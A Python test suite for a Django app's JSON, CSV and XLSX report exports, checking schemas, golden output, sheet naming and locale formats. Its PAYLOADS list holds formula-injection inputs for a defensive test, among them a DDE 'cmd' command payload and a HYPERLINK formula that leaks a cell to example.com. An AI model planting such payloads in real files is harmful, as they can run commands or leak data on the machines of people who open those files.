"""The JSON, CSV and XLSX copies of a report: what they hold, and that nothing in them is run."""

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from io import StringIO
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from openpyxl import Workbook, load_workbook
from referencing import Registry, Resource

from assessments.edition import flow
from recommendations.reports import filled, services
from recommendations.reports.addition import Addition, AdditionTable
from recommendations.reports.exports import csv_file, json_file, table, xlsx_file
from recommendations.reports.exports.besides import Besides
from tests.assessments.small import SMALL
from tests.factories import (
    choose,
    hold,
    make_assessment,
    make_edition,
    save,
    shipped_edition,
    whole,
)
from tests.recommendations import golden
from tests.recommendations.exported import KINDS, READERS, rows_of, sound, stored, told_with
from tests.recommendations.profiles_at_random import filled as filled_at_random

ROOT = Path(__file__).parents[2]
GIVEN_AT = datetime(2026, 10, 14, 9, 30, tzinfo=UTC)
SCHEMAS = {
    1: ROOT / "recommendations" / "data" / "report.schema.1.json",
    2: ROOT / "recommendations" / "data" / "report.schema.json",
}
BESIDE = Besides(
    additions=(
        Addition(
            key="plan",
            title="Plan: who / when",
            by="Dana Hollin",
            at=GIVEN_AT,
            paragraphs=("Keep it until March.",),
            tables=(
                AdditionTable(
                    "Days",
                    ("Stage", "From", "Hours", "Rate"),
                    (("Learn it", date(2027, 1, 29), 1234, Decimal("0.5")), ("=1+1", None, -3, 2.25)),
                ),
            ),
            values={"starts_on": date(2027, 1, 29)},
        ),
    )
)
# What a spreadsheet would calculate, fetch or start, plain and in disguise.
PAYLOADS = (
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u22121",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com/?leak="&A1,"Click")',
    "'=1+1",
    "''=1+1",
    "plain;=1+1",
    "one\n=1+1",
    "one\t@SUM(1)",
)
BLANKS = " \u00a0\u200b\ufeff"
SIGNS = tuple("=+-@＝＋－＠\u2212")
ODD = (
    "שלום עולם",
    "\u202eabc",
    "👩\u200d💻 🚀",
    "é e\u0301",
    'a,b"c"\nd;e',
    "_x0041_ _x005F_",
    "#N/A",
    "TRUE",
    "007",
    "'tis",
)


# What they hold


@pytest.mark.parametrize("name", ["report.json", "report.csv", "report.xlsx.json"])
def test_a_small_report_is_written_as_it_always_was(name):
    assert golden.golden()[name] == (golden.FOLDER / name).read_bytes()


@pytest.mark.parametrize("kind", KINDS)
def test_the_same_report_gives_the_same_bytes(kind):
    assert golden.copies()[kind] == golden.copies()[kind]


def test_a_workbook_holds_no_time_but_that_of_its_report():
    with zipfile.ZipFile(io.BytesIO(sound()["xlsx"])) as packed:
        times = {one.date_time for one in packed.infolist()}
        about = packed.read("docProps/core.xml").decode()

    assert times == {(1980, 1, 1, 0, 0, 0)}
    assert about.count("2026-10-14T09:30:00Z") == 2


def problems(document, form=None):
    """What the schema of a document's own form has against it, or that of another form."""
    answers = json.loads(filled.SCHEMA.read_text("utf-8"))
    registry = Registry().with_resource("answers.schema.json", Resource.from_contents(answers))
    schema = json.loads(SCHEMAS[form or document["report"]["format"]].read_text("utf-8"))
    return [error.message for error in Draft202012Validator(schema, registry=registry).iter_errors(document)]


@pytest.mark.parametrize("seed", range(4))
def test_json_fits_its_published_schema(seed):
    edition = shipped_edition()
    functions, answers = filled_at_random(edition, seed)
    given = services.recommend_for(edition, functions, answers, organisation="Acme", notes={"growth": "?"}, profiles={})
    content = services.content_of(given, reference="SF-1A2B-3C4D", given_at=GIVEN_AT)

    file = json_file.render(json.loads(services.canonical(content)), "0" * 64)

    document = json.loads(file)
    assert (document["report"]["format"], problems(document)) == (services.FORMAT, [])
    assert problems(document, form=1) != []


def test_the_schema_refuses_what_is_missing_added_or_of_another_kind():
    bad = [json.loads(sound()["json"]) for _number in range(4)]
    del bad[0]["result"]["mix"]["label"]
    bad[1]["text"]["more"] = ""
    bad[2]["result"]["overall"]["fits"][0]["score"] = "70"
    bad[3]["answers"]["functions"] = []

    assert problems(json.loads(sound()["json"])) == []
    assert [len(problems(one)) for one in bad] == [1, 1, 1, 1]


def test_a_report_that_was_given_in_form_one_still_is_what_its_schema_says():
    told = json.loads((golden.FOLDER / "format-1.json").read_text("utf-8"))

    document = json.loads(json_file.render(told, "0" * 64, BESIDE))

    assert (document["report"]["format"], problems(document)) == (1, [])
    assert problems(document, form=2) != []


def test_json_holds_all_that_was_frozen():
    told = golden.told()

    document = json.loads(sound()["json"])

    about = {key: value for key, value in document["report"].items() if key != "checksum"}
    inputs = {**document["answers"], "notes": document["notes"]}
    content = {**about, "inputs": inputs, "result": document["result"], "page": document["text"]}
    assert content == told
    assert golden.checksum_of(content) == document["report"]["checksum"]


def test_the_points_of_a_score_add_up_to_it():
    content = golden.told()
    rows = rows_of(sound()["csv"])
    scores = {(one["function"], "bpo"): int(one["bpo"]) for one in rows if one["section"] == "functions"}
    scores["", "bpo"] = next(int(one["value"]) for one in rows if one["key"] == "score.bpo")

    sums = dict.fromkeys(scores, 50.0)
    for row in rows:
        if row["section"] == "contributions" and row["model"] == "bpo":
            sums[row["function"], "bpo"] += float(row["points"])

    assert {place: round(value, 1) for place, value in sums.items()} == scores
    assert len(scores) == 1 + len(content["result"]["functions"])


def test_every_answer_and_note_has_its_row():
    content = golden.told()
    rows = [row for row in rows_of(sound()["csv"]) if row["section"] == "answers"]

    answers = {(row["function"], row["key"]): row["answer"] for row in rows if row["answer"]}
    notes = {(row["function_name"], row["key"]): stored(row["note"]) for row in rows if row["note"]}

    inputs = content["inputs"]
    assert answers == {("", key): answer for key, answer in inputs["answers"].items()} | {
        (key, question): answer
        for key, function in zip(("payroll", "own_1"), inputs["functions"], strict=True)
        for question, answer in function["answers"].items()
    }
    assert notes == {
        ("The organisation", "load"): inputs["notes"]["load"],
        ("All functions", "method"): inputs["notes"]["method"],
    }


def test_csv_is_what_the_rfc_says():
    file = sound()["csv"]
    text = file.decode("utf-8-sig")

    assert file.startswith(b"\xef\xbb\xbfsection,")
    assert text.endswith("\r\n")
    assert {len(row) for row in csv.reader(StringIO(text, newline=""), strict=True)} == {len(csv_file.COLUMNS)}


# For spreadsheets and their readers


def test_a_workbook_has_days_and_numbers_that_can_be_counted_with():
    book = load_workbook(io.BytesIO(golden.copies(besides=BESIDE)["xlsx"]))
    summary = {row[-1].value: row[1] for row in book["Summary"].iter_rows()}
    days = {row[0].value: row for row in book["Plan who when"].iter_rows()}

    assert [(summary[key].value, summary[key].is_date) for key in ("date", "given_at")] == [
        (datetime(2026, 10, 14), True),  # noqa: DTZ001 - a cell of Excel knows no zone
        (datetime(2026, 10, 14, 9, 30), True),  # noqa: DTZ001
    ]
    assert summary["score.bpo"].data_type == "n"
    assert (days["Learn it"][1].value, days["Learn it"][1].is_date) == (datetime(2027, 1, 29), True)  # noqa: DTZ001
    assert [days["Learn it"][place].value for place in (2, 3)] == [1234, 0.5]
    assert (days["=1+1"][0].data_type, days["=1+1"][1].value) == ("s", None)


def test_every_sheet_has_filters_and_heads_in_words_and_its_keys_are_hidden_at_the_end():
    for sheet in load_workbook(io.BytesIO(sound()["xlsx"])).worksheets:
        heads = [cell.value for cell in sheet[1]]
        hidden = [sheet.column_dimensions[cell.column_letter].hidden for cell in sheet[1]]

        assert sheet.auto_filter.ref == sheet.dimensions
        assert [head for head in heads if "_" in str(head) or str(head).islower()] == []
        assert hidden == sorted(hidden)
        assert [
            head for head, is_key in zip(heads, hidden, strict=True) if is_key == ("key" not in str(head).lower())
        ] == []


@pytest.mark.parametrize(
    ("title", "named"),
    [
        ("Plan", "Plan 2"),
        ("pLAN", "pLAN 2"),
        ("History", "History 2"),
        ("a/b\\c:d*e?f[g]", "a b c d e f g"),
        ("'quoted'", "quoted"),
        ("", "-"),
        ("[]", "-"),
        ("x" * 40, "x" * 31),
    ],
)
def test_a_sheet_is_named_as_excel_takes_it(title, named):
    book = Workbook()
    book.create_sheet("Plan")

    assert xlsx_file.sheet_title(book, title) == named


def test_a_name_that_is_taken_stays_within_what_excel_takes():
    book = Workbook()
    for _number in range(12):
        book.create_sheet(xlsx_file.sheet_title(book, "y" * 40))

    assert {len(name) <= 31 for name in book.sheetnames} == {True}
    assert len({name.casefold() for name in book.sheetnames}) == 13


def test_what_stands_beside_a_report_is_in_every_table_and_in_json():
    made = golden.copies(besides=BESIDE)
    rows = [row for row in rows_of(made["csv"]) if row["section"] == "plan"]
    document = json.loads(made["json"])

    told = {(row["note"], row["label"], stored(row["value"])) for row in rows}
    assert {("Days", "From", "2027-01-29"), ("Days", "Rate", "0.5"), ("Days", "Stage", "=1+1")} <= told
    assert document["beside"] == [
        {
            "key": "plan",
            "title": "Plan: who / when",
            "by": "Dana Hollin",
            "at": "2026-10-14T09:30:00Z",
            "paragraphs": ["Keep it until March."],
            "values": {"starts_on": "2027-01-29"},
        }
    ]
    assert problems(document) == []


def test_a_table_for_spanish_spreadsheets_has_their_marks():
    values = golden.told()
    file = csv_file.render(values, "0" * 64, SMALL, BESIDE, kind="semicolon").decode("utf-8-sig")
    semicolons = list(csv.DictReader(StringIO(file, newline=""), delimiter=";"))
    commas = rows_of(csv_file.render(values, "0" * 64, SMALL, BESIDE))

    points = [row["points"] for row in semicolons if row["points"]]
    assert "-36,9" in points
    assert [point.replace(",", ".") for point in points] == [row["points"] for row in commas if row["points"]]
    assert [row["label"] for row in semicolons] == [row["label"] for row in commas]
    assert [csv_file.kind_for(*asked) for asked in (("en",), ("es",), ("es-mx",), ("",))] == [
        "comma",
        "semicolon",
        "semicolon",
        "comma",
    ]


def test_keys_in_a_table_depend_on_no_language():
    keys = {}
    for language in ("en", "es"):
        with translation.override(language):
            rows = rows_of(csv_file.render(golden.told(), "0" * 64, SMALL))
        keys[language] = [[row[column] for column in sorted(table.KEYS)] for row in rows]

    assert keys["en"] == keys["es"]
    assert len([row for row in keys["en"] if "bpo" in row]) > 3


# The same scores elsewhere


def test_the_answers_of_a_download_give_the_same_result_on_another_database(client, db, prepared_site):
    assessment = make_assessment(
        make_edition(shipped_edition()), token=hold(client), functions=("payroll", "tax_planning")
    )
    choose(assessment, "payroll", "own_1", "tax_planning")
    save(assessment, {**whole(assessment), ("", "growth"): "dont_know"}, notes={"repetitive_load": "Mondays"})
    report = services.submit(assessment=assessment)
    document = json.loads(client.get(reverse("recommendations:json", args=(report.pk,))).content)
    environment = os.environ | {"SOURCEFIT_VAR": str(prepared_site), "SOURCEFIT_ENV": "embedded"}
    environment.pop("DATABASE_URL", None)

    command = [sys.executable, str(ROOT / "manage.py"), "recommend", "-", "--json", "-v0"]
    answers = json.dumps(document["answers"]).encode()
    again = json.loads(
        subprocess.run(command, input=answers, check=True, cwd=ROOT, env=environment, capture_output=True).stdout
    )

    assert again["result"] == document["result"]
    assert again["inputs"] == {**document["answers"], "notes": {}}


# What is run: nothing


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_csv_begins_a_formula(payload):
    file = golden.copies(told_with(organisation=payload, function=payload, note=payload))["csv"]

    cells = [cell for row in rows_of(file) for column, cell in row.items() if column != "points"]

    assert payload in [stored(cell) for cell in cells]
    # Some spreadsheets split a cell at a semicolon, a tab or a line's end, quoted or not.
    pieces = [piece.lstrip(BLANKS) for cell in cells for piece in re.split(r"[;\t\r\n]", cell)]
    assert [piece for piece in pieces if piece.startswith(SIGNS)] == []
    assert [cell for cell in cells if cell.lstrip(BLANKS).startswith(("\t", "\r", "\n", "\0"))] == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_workbook_is_a_formula(payload):
    file = golden.copies(told_with(organisation=payload, function=payload, note=payload))["xlsx"]
    cells = [cell for sheet in load_workbook(io.BytesIO(file)).worksheets for row in sheet.iter_rows() for cell in row]

    assert payload in [cell.value for cell in cells]
    assert {cell.data_type for cell in cells} == {"s", "n", "d"}
    assert {cell.quotePrefix for cell in cells if cell.value == payload} == {not payload[0].isalnum()}
    with zipfile.ZipFile(io.BytesIO(file)) as packed:
        assert [name for name in packed.namelist() if b"<f>" in packed.read(name)] == []


@pytest.mark.parametrize("text", [*PAYLOADS, *ODD])
@pytest.mark.parametrize("kind", KINDS)
def test_odd_text_is_read_back_as_it_was(kind, text):
    content = told_with(organisation=text, function=text, note=text)
    opened = READERS[kind](golden.copies(content)[kind])
    texts = {cell for rows in opened.values() for row in rows for cell in row}

    assert (json.dumps(text, ensure_ascii=False) if kind == "json" else text) in texts


@given(st.text(st.characters(codec="utf-8") | st.sampled_from("'=+-@;\t\r\n \u00a0＝")))
def test_an_apostrophe_that_was_put_there_is_taken_away_and_no_other(text):
    safe = csv_file.safe(text)

    assert stored(safe) == text
    assert safe.lstrip(" \u00a0")[:1] not in tuple("=+-@＝\t\r\n") or not safe.strip(" \u00a0")


def test_a_number_below_nought_stays_a_number():
    points = [row["points"] for row in rows_of(sound()["csv"]) if row["points"]]
    sheet = load_workbook(io.BytesIO(sound()["xlsx"]))["Contributions"]

    assert min(float(one) for one in points) == -36.9
    assert min(float(str(row[5].value)) for row in sheet.iter_rows(min_row=2)) == -36.9


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_what_a_file_can_not_hold_is_replaced_by_a_sign_and_seen(kind):
    opened = READERS[kind](golden.copies(told_with(note="a\x00b\x1bc\ud800d\ufffee\rf"))[kind])

    assert "a\ufffdb\ufffdc\ufffdd\ufffde\nf" in [cell for row in opened["answers"] for cell in row]


def test_a_note_of_ten_thousand_characters_is_whole():
    note = "wörd; " * 1700

    for kind in ("csv", "xlsx"):
        opened = READERS[kind](golden.copies(told_with(note=note))[kind])
        assert note in [cell for row in opened["answers"] for cell in row]


def test_the_columns_of_every_table_have_a_heading():
    made = table.tables(golden.told(), "0" * 64, SMALL)

    assert [len(set(table.headings(one))) for one in made] == [len(one.columns) for one in made]
    assert flow.DONT_KNOW in [row[-1] for row in made[3].rows]
